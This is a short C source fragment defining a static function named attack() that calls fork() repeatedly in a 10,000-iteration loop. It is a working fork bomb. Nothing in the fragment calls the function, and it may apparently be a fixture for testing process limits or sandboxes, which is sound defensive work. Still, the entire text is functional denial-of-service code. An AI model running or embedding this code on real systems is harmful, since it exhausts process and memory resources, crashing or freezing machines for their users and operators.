#include <unistd.h>

static void attack() {
  for (int i = 0; i < 10000; ++i) {
    if (fork() >= 0) fork();
  }
}
